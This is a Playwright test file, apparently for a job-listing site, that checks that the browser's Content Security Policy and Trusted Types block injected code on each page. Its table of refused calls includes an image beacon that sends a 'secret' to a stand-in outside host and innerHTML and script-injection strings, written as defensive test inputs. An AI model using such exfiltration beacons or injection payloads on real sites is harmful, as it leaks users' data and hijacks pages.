import type { Page } from '@playwright/test'
import { changePages } from './changePages'
import { expect, test } from './fixtures'
import { matchCount, openHydrated, waitUntilHydrated } from './openHydrated'

/** Runs the code in the page and returns the directive that refused it. */
async function refusedBy(page: Page, code: string): Promise<string> {
  const refused = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true,
        })
      }),
  )
  // Some refused calls throw.
  await page.evaluate(code).catch(() => {})
  return refused
}

const REFUSED = [
  ['connect-src', "fetch('/jobs')"],
  ['connect-src', "navigator.sendBeacon('/', 'x')"],
  ['img-src', "new Image().src = 'https://elsewhere.example/?secret'"],
  ['require-trusted-types-for', "document.body.innerHTML = '<b>taken over</b>'"],
  ['require-trusted-types-for', "document.createElement('script').text = 'alert(1)'"],
  ['require-trusted-types-for', "document.createElement('script').src = '/assets/x.js'"],
  ['trusted-types', "trustedTypes.createPolicy('own', {})"],
  ['form-action', "document.querySelector('form').submit()"],
] as const

test.describe('the browser enforces the policy', () => {
  test.use({ expectedComplaints: [/Content Security policy|requires 'Trusted|status of 404/i] })

  test('nothing is sent, no text becomes markup or script, no policy is created', async ({ page }) => {
    await openHydrated(page, '/contact')
    for (const [directive, code] of REFUSED) expect(await refusedBy(page, code), code).toBe(directive)
    expect(new URL(page.url()).pathname).toBe('/contact')
  })

  test('on every page', async ({ page }) => {
    for (const address of ['/', '/jobs?search=data', '/jobs/1', '/nope']) {
      await page.goto(address)
      await waitUntilHydrated(page)
      expect(await refusedBy(page, "fetch('/jobs')"), address).toBe('connect-src')
    }
  })
})

test.describe('the early script', () => {
  test.use({ expectedComplaints: [/ERR_FAILED|Content Security Policy/] })

  test('does not run if it has been changed', async ({ page }) => {
    await page.route('**/*.js', (route) => route.abort())
    await changePages(page, (html) => html.replace('</script></body>', ' </script></body>'))
    await page.goto('/jobs?search=data')
    // The list as it was built.
    await expect(matchCount(page).locator('span')).toHaveText('22 positions')
    await expect(page.getByRole('searchbox')).toHaveValue('')
  })
})
